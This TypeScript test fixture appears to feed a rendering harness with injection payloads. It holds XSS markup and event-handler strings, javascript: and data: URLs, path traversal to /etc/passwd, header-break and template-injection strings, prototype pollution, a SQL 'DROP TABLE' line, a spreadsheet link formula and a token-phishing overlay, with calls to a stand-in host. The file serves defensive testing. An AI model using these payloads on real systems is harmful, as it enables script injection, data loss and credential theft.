/** Texts that have made pages run, load, move or hide something. Every field of a span may carry them. */
import { sentinel } from '../watched-page.ts';

export interface Payload {
  readonly name: string;
  readonly text: string;
}

const ran = (by: string): string => `${sentinel}('${by}')`;
/** No one answers there, and a request to it is a fault. */
const elsewhere = 'http://elsewhere.example/x';

const markup: readonly Payload[] = [
  { name: 'script', text: `<script>${ran('script')}</script>` },
  { name: 'script after a quote', text: `"><script>${ran('script after a quote')}</script>` },
  { name: 'script after an apostrophe', text: `'><script>${ran('script after an apostrophe')}</script>` },
  { name: 'script in mixed case', text: `<ScRiPt >${ran('script in mixed case')}</sCrIpT>` },
  { name: 'script with a source', text: `<script src="${elsewhere}.js"></script>` },
  { name: 'script inside a script', text: `<scr<script>ipt>${ran('script inside a script')}</scr</script>ipt>` },
  { name: 'end of a script', text: `</script><script>${ran('end of a script')}</script>` },
  { name: 'end of a script in JSON', text: `{"a":"</script><img src=x onerror=${ran('end of a script in JSON')}>"}` },
  { name: 'end of a style', text: `</style><img src=x onerror=${ran('end of a style')}>` },
  { name: 'end of a title', text: `</title><img src=x onerror=${ran('end of a title')}>` },
  { name: 'end of a text area', text: `</textarea><img src=x onerror=${ran('end of a text area')}>` },
  { name: 'end of a comment', text: `--><img src=x onerror=${ran('end of a comment')}>` },
  { name: 'CDATA', text: `<![CDATA[<img src=x onerror=${ran('CDATA')}>]]>` },
  { name: 'image with an error', text: `<img src=x onerror="${ran('image with an error')}">` },
  { name: 'image without spaces', text: `<img/src="x"/onerror=${ran('image without spaces')}>` },
  { name: 'image from elsewhere', text: `<img src="${elsewhere}.png">` },
  { name: 'image set', text: `<img srcset="${elsewhere}.png 2x">` },
  { name: 'picture', text: `<picture><source srcset="${elsewhere}.png"><img src=x onerror=${ran('picture')}></picture>` },
  { name: 'SVG with onload', text: `<svg onload="${ran('SVG with onload')}"></svg>` },
  { name: 'SVG with a script', text: `<svg><script>${ran('SVG with a script')}</script></svg>` },
  { name: 'SVG animation', text: `<svg><animate onbegin=${ran('SVG animation')} attributeName=x dur=1s></svg>` },
  { name: 'SVG link', text: `<svg><a xlink:href="javascript:${ran('SVG link')}"><text y=20>open</text></a></svg>` },
  { name: 'SVG use', text: `<svg><use href="${elsewhere}.svg#a"></use></svg>` },
  { name: 'MathML', text: `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${ran('MathML')}>` },
  { name: 'body with onload', text: `<body onload=${ran('body with onload')}>` },
  { name: 'focus', text: `<input autofocus onfocus=${ran('focus')}>` },
  { name: 'details', text: `<details open ontoggle=${ran('details')}>x</details>` },
  { name: 'video', text: `<video><source onerror="${ran('video')}"></video>` },
  { name: 'pointer', text: `<b onmouseover=${ran('pointer')} onclick=${ran('pointer')}>over here</b>` },
  {
    name: 'animation event',
    text: `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${ran('animation event')}"></b>`,
  },
  { name: 'frame', text: `<iframe src="javascript:${ran('frame')}"></iframe>` },
  { name: 'frame with a document', text: `<iframe srcdoc="<script>parent.${ran('frame with a document')}</script>"></iframe>` },
  { name: 'frame from elsewhere', text: `<iframe src="${elsewhere}"></iframe>` },
  { name: 'object', text: `<object data="javascript:${ran('object')}"></object><embed src="${elsewhere}">` },
  { name: 'form', text: `<form action="${elsewhere}"><button autofocus>Sign in</button></form>` },
  { name: 'action of a button', text: `<button formaction="javascript:${ran('action of a button')}">x</button>` },
  { name: 'base', text: `<base href="${elsewhere}/">` },
  { name: 'refresh', text: `<meta http-equiv="refresh" content="0;url=${elsewhere}">` },
  { name: 'policy', text: `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">` },
  { name: 'style sheet', text: `<link rel=stylesheet href="${elsewhere}.css">` },
  { name: 'prefetch', text: `<link rel="dns-prefetch" href="${elsewhere}"><link rel=preload as=image href="${elsewhere}.png">` },
  { name: 'template', text: `<template><img src=x onerror=${ran('template')}></template>` },
  { name: 'custom element', text: `<x-a is="script">${ran('custom element')}</x-a>` },
  { name: 'noscript', text: `<noscript><p title="</noscript><img src=x onerror=${ran('noscript')}>">` },
  { name: 'named like a global', text: '<form id=document><input name=cookie><a id=location>x</a></form>' },
  { name: 'entities', text: `&lt;img src=x onerror=${ran('entities')}&gt;&#60;script&#62;` },
  { name: 'attribute', text: `" onmouseover="${ran('attribute')}" autofocus onfocus="${ran('attribute')}" x="` },
  { name: 'attribute in apostrophes', text: `' onfocus='${ran('attribute in apostrophes')}' autofocus='` },
  { name: 'attribute with a backtick', text: `\` onfocus=${ran('attribute with a backtick')} autofocus` },
];

const addresses: readonly Payload[] = [
  { name: 'javascript address', text: `javascript:${ran('javascript address')}` },
  { name: 'javascript address in mixed case', text: `JaVaScRiPt:${ran('javascript address in mixed case')}` },
  { name: 'javascript address with a tab', text: `java\tscript:${ran('javascript address with a tab')}` },
  { name: 'javascript address with a line break', text: `\u0001java\nscript:${ran('javascript address with a line break')}` },
  { name: 'javascript address behind a comment', text: `javascript://%0a${ran('javascript address behind a comment')}` },
  { name: 'vbscript address', text: 'vbscript:msgbox(1)' },
  { name: 'data address', text: `data:text/html,<script>${ran('data address')}</script>` },
  { name: 'data address in base64', text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
  { name: 'blob address', text: 'blob:http://127.0.0.1/6f9619ff' },
  { name: 'file address', text: 'file:///etc/passwd' },
  { name: 'address without a scheme', text: '//elsewhere.example/x' },
  { name: 'backslashes', text: '\\\\elsewhere.example\\x' },
  { name: 'plain link', text: `see ${elsewhere}?a=1&b=2 and www.elsewhere.example` },
  { name: 'two dots', text: '..' },
  { name: 'slash', text: '/' },
  { name: 'path upwards', text: '../../../../etc/passwd' },
  { name: 'encoded path upwards', text: '..%2f..%2f%2e%2e%2fapi%2fv1%2fruns' },
  { name: 'query and fragment', text: '?agent=x&verdict=fail#/../../settings' },
  { name: 'header break', text: `x\r\nSet-Cookie: a=b\r\n\r\n<script>${ran('header break')}</script>` },
  { name: 'percent signs', text: '%00%0d%0a%3Cscript%3E%E0%A4%A' },
];

const codes: readonly Payload[] = [
  { name: 'template braces', text: `{{constructor.constructor("${sentinel}(1)")()}}` },
  { name: 'template literal', text: `\${${ran('template literal')}}` },
  { name: 'server template', text: `<%= 7*7 %>#{7*7}[[\${7*7}]]{% raw %}` },
  { name: 'expression in a binding', text: `<div v-html="x" ng-app ng-bind-html="x">{{$on.constructor('${sentinel}(2)')()}}</div>` },
  { name: 'CSS expression', text: `background:url(javascript:${ran('CSS expression')});width:expression(${ran('CSS expression')})` },
  { name: 'CSS request', text: `red;background-image:url(${elsewhere}.png);x:` },
  { name: 'CSS rule', text: `}*{display:none!important;background:url(${elsewhere}.png)}` },
  { name: 'CSS import', text: `<style>@import "${elsewhere}.css";*{display:none}</style>` },
  { name: 'CSS cover', text: '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Signed out. Enter your token:</div>' },
  { name: 'prototype', text: '__proto__' },
  { name: 'constructor', text: 'constructor' },
  { name: 'prototype in JSON', text: '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}' },
  { name: 'toString', text: 'toString' },
  { name: 'hasOwnProperty', text: 'hasOwnProperty' },
  {
    name: 'a component as data',
    text: `{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${ran('a component as data')}>"}},"constructor":null,"__v":1}`,
  },
  { name: 'SQL', text: `' OR 1=1; DROP TABLE runs; --` },
  { name: 'Markdown image', text: `![x](${elsewhere}.png)` },
  { name: 'Markdown link', text: `[open](javascript:${ran('Markdown link')}) <${elsewhere}>` },
  { name: 'Markdown with markup', text: `# x\n\n<img src=x onerror=${ran('Markdown with markup')}>\n\n\`\`\`html\n</code>\n\`\`\`` },
  { name: 'formula', text: `=HYPERLINK("${elsewhere}","x")` },
];

const letters: readonly Payload[] = [
  { name: 'right to left', text: '\u202Eflipped\u2066 \u202D and \u2069\u200F txt.exe' },
  { name: 'unclosed isolates', text: '\u2066'.repeat(200) },
  { name: 'zero width', text: 'ref\u200Bund\u200C-\u200Dagent\u2060\uFEFF' },
  { name: 'look-alikes', text: 'r\u0435fund-\u0430g\u0435nt' },
  { name: 'ANSI', text: '\u001B[31mred\u001B[0m\u001B]8;;http://elsewhere.example/x\u0007link\u001B]8;;\u0007\u001B[2J' },
  { name: 'control characters', text: Array.from({ length: 32 }, (_, code) => (code === 0 ? '' : String.fromCodePoint(code))).join('') },
  { name: 'NUL', text: 'before\u0000after' },
  { name: 'lone surrogate', text: 'high \uD800 low \uDC00 end' },
  { name: 'line separators', text: 'one\u2028two\u2029three\u0085four' },
  { name: 'not characters', text: '\uFFFE\uFFFF\u{1FFFE}' },
  { name: 'many marks', text: `z${'\u0301'.repeat(500)}` },
  { name: 'large letters', text: '\uFDFD\u{1242B}\u{12219}\u2E3B\uA9C5'.repeat(20) },
  { name: 'an enormous word', text: 'W'.repeat(15_000) },
  { name: 'many lines', text: 'line\n'.repeat(3_000) },
  { name: 'deep JSON', text: `${'['.repeat(600)}${']'.repeat(600)}` },
  { name: 'wide JSON', text: JSON.stringify(Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`key ${at}`, at]))) },
  { name: 'large numbers', text: '{"a":123456789012345678901234567890,"b":1e999,"c":-0}' },
  { name: 'only spaces', text: ' \t\u00A0\u3000 ' },
  { name: 'flags and families', text: '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}'.repeat(10) },
];

export const payloads: readonly Payload[] = [...markup, ...addresses, ...codes, ...letters];
